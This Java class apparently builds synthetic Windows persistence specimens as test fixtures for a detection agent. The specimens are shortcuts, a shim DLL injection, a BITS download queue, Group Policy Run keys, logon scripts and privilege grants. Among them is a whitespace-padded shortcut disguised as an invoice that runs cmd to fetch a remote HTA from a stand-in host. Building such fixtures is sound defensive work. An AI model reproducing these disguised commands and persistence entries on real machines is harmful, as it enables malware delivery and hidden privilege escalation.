package bzh.vigie.agent.persistence;

import bzh.vigie.agent.windows.ByteWriter;
import bzh.vigie.agent.windows.shim.ShimWriter;
import bzh.vigie.agent.windows.shortcut.ShortcutWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * The recipe of the specimens that are no text: each is written from its format's description by the writers of these tests, none
 * comes from a real PC. {@link #all} gives them by their path under {@code persistence/}; {@code -Dvigie.write-specimens=true}
 * writes them.
 */
final class WindowsSpecimens {
    private static final String COMMAND = "C:\\Tools\\backup.exe";
    private static final String POLICY = "host/Windows/System32/GroupPolicy/";

    private final Map<String, byte[]> files = new LinkedHashMap<>();

    private WindowsSpecimens() {}

    static Map<String, byte[]> all() throws IOException {
        WindowsSpecimens specimens = new WindowsSpecimens();
        specimens.shortcuts();
        specimens.system();
        specimens.policy();
        return specimens.files;
    }

    private static byte[] reg(String text) {
        return new ByteWriter()
                .u16(0xFEFF)
                .bytes(text.getBytes(StandardCharsets.UTF_16LE))
                .toBytes();
    }

    private void shortcuts() {
        byte[] plain = new ShortcutWriter()
                .idList(COMMAND)
                .text(0x20, "-q")
                .machine("pc-accueil")
                .toBytes();
        byte[] disguised = new ShortcutWriter()
                .idList("C:\\Windows\\explorer.exe")
                .environment("%windir%\\System32\\cmd.exe")
                .text(0x20, " ".repeat(300) + "/c start https://exemple.fr/a.hta")
                .window(7)
                .toBytes();
        files.put("windows.shortcut/host/Users/Public/Desktop/Logiciel.lnk", plain);
        files.put("windows.shortcut-user/host/Users/agent/Desktop/Facture.lnk", disguised);
    }

    private void system() {
        files.put(
                "windows.shim.database/host/Windows/AppPatch/Custom/{0b2f1d2c-9f3a-4d55-8c11-2f6a7b8c9d0e}.sdb",
                new ShimWriter()
                        .program("putty.exe", "PuTTY", "InjectDll|C:\\Tools\\backup.dll")
                        .toBytes());
        ByteWriter queue = new ByteWriter().zeros(4_096).hex("a15609e143afc94292e66f9856eba7f6");
        queue.u32(0).u32(1).u32(5).u32(0).guid("{0b2f1d2c-9f3a-4d55-8c11-2f6a7b8c9d0e}");
        for (String text : new String[] {"Mise à jour", "", COMMAND, COMMAND + " -q", "S-1-5-18"}) {
            queue.u32(text.length() + 1L).utf16(text).u16(0);
        }
        queue.u32(3).zeros(40).utf16("https://exemple.fr/a.exe").u16(0).zeros(200);
        files.put("windows.bits/host/ProgramData/Microsoft/Network/Downloader/qmgr.db", queue.toBytes());
    }

    private void policy() {
        files.put("windows.policy.registry/" + POLICY + "Machine/Registry.pol", registryPolicy());
        files.put("windows.policy.registry-user/host/Users/agent/ntuser.pol", registryPolicy());
        files.put(
                "windows.policy.domain-registry/host/Windows/SYSVOL/domain/Policies/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Registry.pol",
                registryPolicy());
        files.put(
                "windows.policy.script-file/" + POLICY + "User/Scripts/scripts.ini",
                reg(
                        "\r\n[Logon]\r\n0CmdLine=C:\\Tools\\backup.exe\r\n0Parameters=-q\r\n1CmdLine=absent.bat\r\n1Parameters=\r\n"));
        files.put(
                "windows.policy.security-template/host/Windows/SYSVOL/domain/Policies/{6AC1786C-016F-11D2-945F-00C04fB984F9}/Machine/Microsoft/Windows NT/SecEdit/GptTmpl.inf",
                reg(
                        "[Unicode]\r\nUnicode=yes\r\n[Privilege Rights]\r\nSeDebugPrivilege = *S-1-5-32-544,aide\r\n[Group Membership]\r\n*S-1-5-32-544__Members = aide\r\n"));
    }

    private static byte[] registryPolicy() {
        ByteWriter out = new ByteWriter().latin1("PReg").u32(1);
        byte[] run = new ByteWriter().utf16(COMMAND + " -q").u16(0).toBytes();
        return out.utf16("[Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run\0;1\0;")
                .u32(1)
                .utf16(";")
                .u32(run.length)
                .utf16(";")
                .bytes(run)
                .utf16("]")
                .toBytes();
    }

    /** Writes them below that folder. */
    static void write(Path folder) throws IOException {
        for (Map.Entry<String, byte[]> file : all().entrySet()) {
            Path path = folder.resolve(file.getKey());
            Files.createDirectories(path.getParent());
            Files.write(path, file.getValue());
        }
    }
}
